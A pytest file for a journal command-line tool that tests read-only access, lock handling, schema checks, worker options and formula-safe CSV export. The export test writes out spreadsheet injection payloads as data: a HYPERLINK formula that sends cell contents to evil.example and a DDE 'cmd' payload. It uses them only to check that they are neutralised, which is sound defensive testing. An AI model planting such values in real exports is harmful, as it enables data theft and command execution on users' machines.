"""The reading ``log`` commands: no write lock, read-only copies, workers, safe CSV.

Findings of the journal audit: ``verify``/``show`` failed on a read-only copy and
waited for (then failed on) another process's write lock, because every open ran
the migration under ``BEGIN IMMEDIATE``; ``--workers`` was documented but missing;
the CSV export let ``=HYPERLINK(...)`` typed by a clerk run in a spreadsheet.
"""

from __future__ import annotations

import csv
import datetime as dt
import os
import shutil
import sqlite3
import subprocess
import sys
import time
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path
from typing import Any

import pytest

import counter_app.journal.store as store_module
from counter_app.journal.cli import main
from counter_app.journal.migrations import SCHEMA_VERSION_TABLE, migrations_for
from counter_app.journal.models import Clerk, DecisionAction
from counter_app.journal.store import open_journal
from tests.journal.builders import consultation, decision, fake_insz

REPO = Path(__file__).resolve().parents[2]
NOON = dt.datetime(2026, 3, 10, 11, 0, tzinfo=dt.UTC)
DAY = "2026-03-10"


@pytest.fixture
def filled(tmp_path: Path) -> Path:
    path = tmp_path / "journal.sqlite3"
    with open_journal(str(path)) as store:
        for i in range(3):
            c = consultation(at=NOON + dt.timedelta(minutes=i), subject=fake_insz(i))
            store.append_many([c, decision(c)])
    return path


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run(
        [sys.executable, "-m", "counter_app.journal", *args],
        capture_output=True, text=True, timeout=120, env=env, cwd=REPO,
    )  # fmt: skip


def _read_only_copy_commands(journal: Path, tmp_path: Path, commands: list[list[str]]) -> list[str]:
    """Run commands on a copy of the journal that nobody can write: a read-only tmpfs in
    a private mount namespace when we are root (root ignores file modes), else chmod."""
    env_python = f"PYTHONPATH={REPO} {sys.executable} -m counter_app.journal"
    if os.geteuid() == 0:
        if shutil.which("unshare") is None:
            pytest.skip("running as root without unshare: no way to make a read-only copy")
        mnt = tmp_path / "ro"
        mnt.mkdir()
        script = [f"mount -t tmpfs -o size=16m tmpfs {mnt}", f"cp {journal} {mnt}/j.sqlite3",
                  f"mount -o remount,ro {mnt}"]  # fmt: skip
        outputs = []
        for i, cmd in enumerate(commands):
            script.append(f"echo '--- {i}'; {env_python} {' '.join(cmd)} --db {mnt}/j.sqlite3 2>&1;"
                          " echo rc=$?")  # fmt: skip
        done = subprocess.run(["unshare", "-m", "sh", "-c", " && ".join(script[:3]) + "; "
                               + "; ".join(script[3:])], capture_output=True, text=True,
                              timeout=300, cwd=REPO)  # fmt: skip
        if "Read-only file system" not in subprocess.run(
            ["unshare", "-m", "sh", "-c", " && ".join(script[:3]) + f"; touch {mnt}/x"],
            capture_output=True, text=True, timeout=60,
        ).stderr:  # fmt: skip
            pytest.skip("could not mount a read-only tmpfs here")
        outputs = done.stdout.split("--- ")[1:]
        return outputs
    ro = tmp_path / "ro"
    ro.mkdir()
    copy = ro / "j.sqlite3"
    shutil.copy(journal, copy)
    copy.chmod(0o444)
    ro.chmod(0o555)
    try:
        outputs = []
        for cmd in commands:
            r = _cli(*cmd, "--db", str(copy))
            outputs.append(r.stdout + r.stderr + f"rc={r.returncode}")
        return outputs
    finally:
        ro.chmod(0o755)


def test_verify_show_and_export_work_on_a_read_only_copy(filled: Path, tmp_path: Path) -> None:
    out_csv = tmp_path / "out.csv"
    verify, show, export = _read_only_copy_commands(
        filled, tmp_path,
        [["log", "verify"], ["log", "show", "--day", DAY], ["log", "export", "--day", DAY,
                                                              "--csv", str(out_csv)]],
    )  # fmt: skip
    assert "chain intact" in verify and "rc=0" in verify, verify
    assert "6 entries" in show and "rc=0" in show, show
    assert "exported 6 entries" in export and "rc=0" in export, export


def test_reading_commands_do_not_wait_for_a_writer(
    filled: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    writer = sqlite3.connect(str(filled), isolation_level=None)
    writer.execute("BEGIN IMMEDIATE")  # a counter in the middle of a write
    try:
        started = time.monotonic()
        assert main(["log", "verify", "--db", str(filled)]) == 0
        assert main(["log", "show", "--day", DAY, "--db", str(filled)]) == 0
        elapsed = time.monotonic() - started
    finally:
        writer.execute("ROLLBACK")
        writer.close()
    out = capsys.readouterr().out
    assert "chain intact" in out and "6 entries" in out
    assert elapsed < 2.0  # the busy timeout is 5 s: nobody waited for the lock


def test_a_journal_from_the_previous_version_is_read_as_it_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An evidence copy made before migration 2 is checked without being changed; only a
    newer schema than the program knows is refused."""
    filled = tmp_path / "v1.sqlite3"
    con = sqlite3.connect(str(filled), isolation_level=None)
    con.execute(SCHEMA_VERSION_TABLE)
    con.executescript(migrations_for("sqlite")[0].sql)
    con.execute("INSERT INTO schema_version VALUES (1, 'initial', '2026-01-01T00:00:00.000000Z')")
    con.close()
    assert main(["log", "verify", "--db", str(filled)]) == 0
    con = sqlite3.connect(str(filled), isolation_level=None)
    assert con.execute("SELECT MAX(version) FROM schema_version").fetchone() == (1,)
    con.execute("INSERT INTO schema_version VALUES (99, 'future', '2030-01-01T00:00:00.000000Z')")
    con.close()
    capsys.readouterr()
    assert main(["log", "verify", "--db", str(filled)]) == 3
    assert "schema is version 99, newer than this program's" in capsys.readouterr().err


def test_reading_a_missing_journal_does_not_create_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "nothing" / "journal.sqlite3"
    assert main(["log", "verify", "--db", str(missing)]) == 3
    assert "there is no journal at" in capsys.readouterr().err
    assert not missing.parent.exists()


def test_verify_of_a_day_without_entries_does_not_claim_it_intact(
    filled: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["log", "verify", "--day", "2026-03-11", "--db", str(filled)]) == 0
    out = capsys.readouterr().out
    assert "no entries recorded on 2026-03-11" in out and "intact" not in out


def test_verify_takes_workers(
    filled: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--workers N`` reaches the store: with the thresholds lowered, a pool of N
    real processes checks the chain."""
    pools: list[int] = []

    class CountingPool(ProcessPoolExecutor):
        def __init__(self, max_workers: int, **kw: Any) -> None:
            pools.append(max_workers)
            super().__init__(max_workers, **kw)

    monkeypatch.setattr(store_module, "ProcessPoolExecutor", CountingPool)
    monkeypatch.setattr(store_module, "PARALLEL_VERIFY_MIN_ROWS", 1)
    monkeypatch.setattr(store_module, "PARALLEL_VERIFY_MIN_CHUNK", 2)
    assert main(["log", "verify", "--workers", "2", "--db", str(filled)]) == 0
    assert pools == [2]
    assert "verified 6 entries" in capsys.readouterr().out
    from counter_app.journal.cli import default_workers

    assert 1 <= default_workers() <= 4
    with pytest.raises(SystemExit):
        main(["log", "verify", "--workers", "0", "--db", str(filled)])


def test_export_neutralises_formulas_and_gives_local_times(tmp_path: Path) -> None:
    path = tmp_path / "journal.sqlite3"
    late = dt.datetime(2026, 11, 28, 23, 30, tzinfo=dt.UTC)  # 00:30 on the 29th in Brussels
    evil = '=HYPERLINK("http://evil.example/?"&A2,"details")'
    with open_journal(str(path)) as store:
        c = consultation(at=late, clerk=Clerk(name="=1+cmd|' /C calc'!A0"))
        store.append_many([
            c, decision(c, DecisionAction.NORMAL_SALE, overridden=True, reason=evil),
            decision(c, overridden=True, reason="-2+3"),
            decision(c, overridden=True, reason="@SUM(A1:A9)"),
            decision(c, overridden=True, reason="\tx"),
            decision(c, overridden=True, reason="document seen"),
        ])  # fmt: skip
    out = tmp_path / "day.csv"
    assert main(["log", "export", "--day", "2026-11-29", "--csv", str(out), "--db", str(path)]) == 0
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["clerk_name"] == "'=1+cmd|' /C calc'!A0"
    assert [r["override_reason"] for r in rows[1:]] == [
        "'" + evil,
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tx",
        "document seen",
    ]
    for r in rows:
        assert not r["clerk_name"].startswith(("=", "+", "-", "@"))
    assert rows[0]["day"] == "2026-11-29"
    assert rows[0]["recorded_at"] == "2026-11-29T00:30:00+01:00"


def test_a_read_only_store_reads_and_refuses_writes_on_both_backends(journal_url: str) -> None:
    from counter_app.journal.errors import JournalError

    with open_journal(journal_url) as store:
        c = consultation(at=NOON)
        store.append_many([c, decision(c)])
    with open_journal(journal_url, read_only=True) as reader:
        assert reader.verify().ok and reader.verify(dt.date(2026, 3, 10)).ok
        assert len(reader.entries(dt.date(2026, 3, 10))) == 2
        with pytest.raises(JournalError):
            reader.append(consultation(at=NOON))
    with open_journal(journal_url) as store:
        assert len(store.entries(dt.date(2026, 3, 10))) == 2
